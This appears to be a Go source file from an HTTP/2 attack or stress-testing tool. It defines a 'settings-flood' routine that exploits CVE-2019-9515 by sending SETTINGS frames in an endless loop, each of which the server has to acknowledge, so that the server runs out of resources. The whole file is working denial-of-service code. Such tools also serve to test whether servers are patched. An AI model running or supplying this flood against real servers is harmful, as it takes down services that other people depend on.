package main

import (
	"context"

	"golang.org/x/net/http2"
)

// settingsFlood sends SETTINGS, each of which has to be acknowledged.
var settingsFlood = &attack{
	name: "settings-flood", what: "SETTINGS without end (CVE-2019-9515)",
	run: func(ctx context.Context, e *enemy) error {
		for i := uint32(0); ctx.Err() == nil; i++ {
			if err := e.alive(e.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: i % 65536})); err != nil {
				return err
			}
		}
		return nil
	},
}
